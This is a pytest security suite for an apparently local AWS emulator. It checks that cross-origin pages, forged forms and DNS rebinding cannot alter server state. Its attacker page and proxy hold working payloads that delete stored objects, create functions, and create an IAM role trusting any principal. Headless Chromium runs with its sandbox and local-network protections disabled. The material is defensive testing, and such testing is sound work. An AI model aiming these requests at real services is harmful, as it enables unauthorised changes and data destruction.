"""A real browser opens a page of somebody else's: nothing that the page tries may change anything on the server.

Each attack is also made past the defence it tries (a proxy that hides what the browser says of itself, or a server that was told to
take the attacker's name for its own), where it must succeed: else the test would pass however the server behaved."""
import base64
import contextlib
import http.client
import http.server
import json
import queue
import shutil
import subprocess
import threading
import urllib.parse

import pytest

from conftest import LIMIT, zipped

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = pytest.mark.skipif(not CHROMIUM, reason="there is no chromium here")

DEFINITION = json.dumps({"StartAt": "P", "States": {"P": {"Type": "Pass", "End": True}}})
ROLE = "arn:aws:iam::000000000000:role/any"
TARGET = {"X-Amz-Target": "AWSStepFunctions.CreateStateMachine", "Content-Type": "application/x-amz-json-1.0"}
MACHINE = json.dumps({"name": "by-page", "definition": DEFINITION, "roleArn": ROLE})
FUNCTION = json.dumps({"FunctionName": "by-page", "Runtime": "python3.11", "Handler": "index.handler", "Role": ROLE,
                       "Code": {"ZipFile": base64.b64encode(zipped({"index.py": "def handler(e, c): pass\n"})).decode()}})
KEYS = "<Delete><Object><Key>precious</Key></Object></Delete>"
TRUST = json.dumps({"Version": "2012-10-17", "Statement": {"Effect": "Allow", "Principal": "*", "Action": "sts:AssumeRole"}})

# What a page may send to another origin without asking first, what it must ask for, and a form.
SIMPLE = [
    ("/2015-03-31/functions", {"method": "POST", "mode": "no-cors", "headers": {"Content-Type": "text/plain"}, "body": FUNCTION}),
    ("/precious?delete", {"method": "POST", "mode": "no-cors", "headers": {"Content-Type": "text/plain"}, "body": KEYS}),
]
ASKED_FOR = [
    ("/", {"method": "POST", "headers": TARGET, "body": MACHINE}),
    ("/by-page", {"method": "PUT"}),
]
FORM = {"Action": "CreateRole", "Version": "2010-05-08", "RoleName": "by-page", "AssumeRolePolicyDocument": TRUST}
# An image's address, say: browsers tell least of where such a request comes from, so that its method must suffice.
LINK = [("/?" + urllib.parse.urlencode({**FORM, "X-Amz-Credential": "any/20260101/us-east-1/iam/aws4_request"}), {"mode": "no-cors"})]
RESET = [("/_stepwell/reset", {"method": "POST", "mode": "no-cors"})]

PAGE = """<!doctype html><body><script>
const {base, report, requests, form} = %s;
const attack = async () => {
  const results = [];
  for (const [path, init] of requests) {
    try {
      const answer = await fetch(base + path, init);
      results.push(answer.type == "opaque" ? "opaque" : String(answer.status));
    } catch (error) { results.push("blocked"); }
  }
  if (form) {
    const frame = document.createElement("iframe");
    frame.name = "frame";
    document.body.append(frame);
    const made = document.createElement("form");
    Object.assign(made, {method: "POST", action: base + "/", target: "frame"});
    for (const [name, value] of Object.entries(form)) {
      const field = document.createElement("input");
      Object.assign(field, {type: "hidden", name, value});
      made.append(field);
    }
    document.body.append(made);
    await new Promise(done => { frame.addEventListener("load", done); made.submit(); });
    results.push("sent");
  }
  await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
};
attack();
</script>"""


class Attacker:
    """A web server: /page is the attack, /report hears how it went, and everything else goes on to `server`.

    `hide`: without what the browser says of the page, and with every permission that it asks for."""

    def __init__(self, server, hide=False):
        self.reports = queue.Queue()
        self.page = ""
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def answer(self, status, body=b"", headers=()):
                self.send_response(status)
                for name, value in headers:
                    self.send_header(name, value)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def any(self):
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
                if self.path == "/page":
                    return self.answer(200, attacker.page.encode(), [("Content-Type", "text/html")])
                if self.path == "/report":
                    attacker.reports.put(json.loads(body))
                    return self.answer(204)
                allow = [("Access-Control-Allow-Origin", self.headers.get("Origin") or "*"), ("Access-Control-Allow-Methods", "*"),
                         ("Access-Control-Allow-Headers", "X-Amz-Target, Content-Type")] if hide else []
                if hide and self.command == "OPTIONS":
                    return self.answer(204, headers=[*allow, ("Access-Control-Allow-Methods", "PUT, POST")])
                connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=LIMIT)
                headers = {name: value for name, value in self.headers.items() if name.lower() not in ("connection", "content-length")}
                if hide:
                    headers = {name: value for name, value in headers.items()
                               if name.lower() not in ("origin", "referer") and not name.lower().startswith("sec-")}
                    headers["Host"] = f"127.0.0.1:{server.port}"
                connection.request(self.command, self.path, body, headers)
                answered = connection.getresponse()
                text = answered.read()
                connection.close()
                return self.answer(answered.status, text, allow)

            do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = any

            def log_message(self, *words):
                pass

        self.listening = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.listening.server_address[1]
        threading.Thread(target=self.listening.serve_forever, daemon=True).start()

    def close(self):
        self.listening.shutdown()
        self.listening.server_close()


@pytest.fixture
def attacker():
    made = []

    def make(*words, **more):
        made.append(Attacker(*words, **more))
        return made[-1]

    yield make
    for each in made:
        each.close()


@pytest.fixture
def visit(tmp_path):
    """visit(attacker, host, base, requests, form): the page's own account of what it got. The attacker's server has the page, or `keep`
    puts it somewhere and returns its URL."""
    def go(attacker, host, base, requests, form=None, keep=None):
        report = f"http://{host}:{attacker.port}/report"
        attacker.page = PAGE % json.dumps({"base": base, "report": report, "requests": requests, "form": form})
        url = keep(attacker.page) if keep else f"http://{host}:{attacker.port}/page"
        profile = tmp_path / "profile"
        # The browser's own defences of local servers are young, and other browsers have none: they must not hide ours.
        command = [CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                   "--no-proxy-server", "--disable-background-networking", "--disable-component-update", "--disable-sync",
                   "--disable-features=HttpsUpgrades,HttpsFirstBalancedMode,LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,"
                   "PrivateNetworkAccessRespectPreflightResults",
                   "--host-resolver-rules=MAP *.example 127.0.0.1", f"--user-data-dir={profile}", url]
        with open(tmp_path / "chromium.log", "wb") as log:
            browser = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=log, stderr=log)
        try:
            return attacker.reports.get(timeout=2 * LIMIT)
        except queue.Empty:
            pytest.fail("the page did not report:\n" + (tmp_path / "chromium.log").read_text(errors="replace")[-3000:])
        finally:
            browser.terminate()
            with contextlib.suppress(subprocess.TimeoutExpired):
                browser.wait(10)
            if browser.poll() is None:
                browser.kill()
                browser.wait()
            shutil.rmtree(profile, ignore_errors=True)
    return go


def prepare(server):
    s3 = server.client("s3", s3={"addressing_style": "path"})
    s3.create_bucket(Bucket="precious")
    s3.put_object(Bucket="precious", Key="precious", Body=b"kept")


def state(server):
    """What the attacks would change."""
    s3 = server.client("s3", s3={"addressing_style": "path"})
    buckets = [bucket["Name"] for bucket in s3.list_buckets()["Buckets"]]
    return {
        "buckets": buckets,
        "objects": [found["Key"] for found in s3.list_objects_v2(Bucket="precious").get("Contents", [])] if "precious" in buckets else None,
        "functions": [found["FunctionName"] for found in server.client("lambda").list_functions()["Functions"]],
        "machines": [found["name"] for found in server.client("stepfunctions").list_state_machines()["stateMachines"]],
        "roles": [found["RoleName"] for found in server.client("iam").list_roles()["Roles"]],
    }


UNTOUCHED = {"buckets": ["precious"], "objects": ["precious"], "functions": [], "machines": [], "roles": []}
OVERRUN = {"buckets": ["by-page", "precious"], "objects": None, "functions": ["by-page"], "machines": ["by-page"], "roles": ["by-page"]}
EMPTY = {**UNTOUCHED, "buckets": [], "objects": None}


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
def test_a_page_of_another_origin(own_server, attacker, visit, host):
    server = own_server(data_dir=":memory:")
    prepare(server)
    base = f"http://{host}:{server.port}"
    results = visit(attacker(server), "attacker.example", base, SIMPLE + ASKED_FOR + RESET + LINK, FORM)
    # The first were sent, and the page learned nothing; the others were not even sent.
    assert results == ["opaque", "opaque", "blocked", "blocked", "opaque", "opaque", "sent"]
    assert state(server) == UNTOUCHED


def test_a_page_of_another_origin_whose_browser_keeps_silent(own_server, attacker, visit):
    server = own_server(data_dir=":memory:")
    prepare(server)
    undefended = attacker(server, hide=True)
    base = f"http://127.0.0.1:{undefended.port}"
    results = visit(undefended, "attacker.example", base, SIMPLE + ASKED_FOR, FORM)
    assert results == ["opaque", "opaque", "200", "200", "sent"]
    assert state(server) == {**OVERRUN, "objects": []}
    visit(undefended, "attacker.example", base, RESET)
    assert state(server) == EMPTY


def test_a_link_whose_browser_keeps_silent(own_server, attacker, visit):
    server = own_server(data_dir=":memory:")
    prepare(server)
    undefended = attacker(server, hide=True)
    assert visit(undefended, "attacker.example", f"http://127.0.0.1:{undefended.port}", LINK) == ["opaque"]
    assert state(server) == UNTOUCHED


def test_a_name_that_resolves_to_the_server(own_server, attacker, visit):
    """DNS rebinding: the page's own name is the server's address by the time that its script runs."""
    server = own_server(data_dir=":memory:")
    prepare(server)
    same_origin = [(path, {**init, "mode": "cors"}) for path, init in SIMPLE + ASKED_FOR + RESET]
    results = visit(attacker(server), "rebound.example", "", same_origin, FORM)
    assert results == ["403"] * len(same_origin) + ["sent"]
    assert state(server) == UNTOUCHED


def test_a_name_that_the_server_was_told_to_trust(own_server, attacker, visit):
    server = own_server(data_dir=":memory:", options=["--allowed-hosts", "rebound.example"])
    prepare(server)
    same_origin = [(path, {**init, "mode": "cors"}) for path, init in SIMPLE + ASKED_FOR]
    results = visit(attacker(server), "rebound.example", "", same_origin, FORM)
    assert results == ["201", "200", "200", "200", "sent"]
    assert state(server) == {**OVERRUN, "objects": []}
    assert visit(attacker(server), "rebound.example", "", [(RESET[0][0], {"method": "POST"})]) == ["200"]
    assert state(server) == EMPTY


def test_a_page_of_a_bucket_is_not_of_our_origin(own_server, attacker, visit):
    server = own_server(data_dir=":memory:")
    prepare(server)

    def keep(page):
        s3 = server.client("s3", s3={"addressing_style": "path"})
        s3.create_bucket(Bucket="pages")
        s3.put_object(Bucket="pages", Key="page.html", Body=page.encode(), ContentType="text/html")
        return f"http://127.0.0.1:{server.port}/pages/page.html"

    requests = [(path, {**init, "mode": "cors"}) for path, init in RESET + SIMPLE + ASKED_FOR]
    results = visit(attacker(server), "127.0.0.1", "http://127.0.0.1:%d" % server.port, requests, FORM, keep)
    assert results == ["blocked"] * len(requests) + ["sent"]
    assert state(server) == {**UNTOUCHED, "buckets": ["pages", "precious"]}


@pytest.mark.parametrize("policy", [None, "default-src 'self'"])
def test_a_page_of_a_function_is_not_of_our_origin(own_server, policy):
    """As a browser would be told; what the function itself says of its page holds as well."""
    server = own_server(data_dir=":memory:")
    headers = {"content-type": "text/html", **({"content-security-policy": policy} if policy else {})}
    source = f"def handler(event, context):\n    return {{'statusCode': 200, 'headers': {headers!r}, 'body': '<p>'}}\n"
    functions = server.client("lambda")
    functions.create_function(FunctionName="page", Runtime="python3.11", Handler="index.handler", Role=ROLE,
                              Code={"ZipFile": zipped({"index.py": source})})
    functions.get_waiter("function_active_v2").wait(FunctionName="page")
    url = urllib.parse.urlsplit(functions.create_function_url_config(FunctionName="page", AuthType="NONE")["FunctionUrl"])
    functions.add_permission(FunctionName="page", StatementId="all", Action="lambda:InvokeFunctionUrl", Principal="*",
                             FunctionUrlAuthType="NONE")

    def policies(path, host):
        connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=LIMIT)
        connection.request("GET", path, headers={"Host": host})
        answer = connection.getresponse()
        assert answer.status == 200, answer.read()
        connection.close()
        return answer.headers.get_all("Content-Security-Policy") or []

    own = [policy] if policy else []
    found = policies(url.path, url.netloc)
    assert found[:-1] == own and found[-1].startswith("sandbox ") and "allow-same-origin" not in found[-1]
    assert policies("/", url.path.split("/")[2] + ".lambda-url.us-east-1.localhost") == own
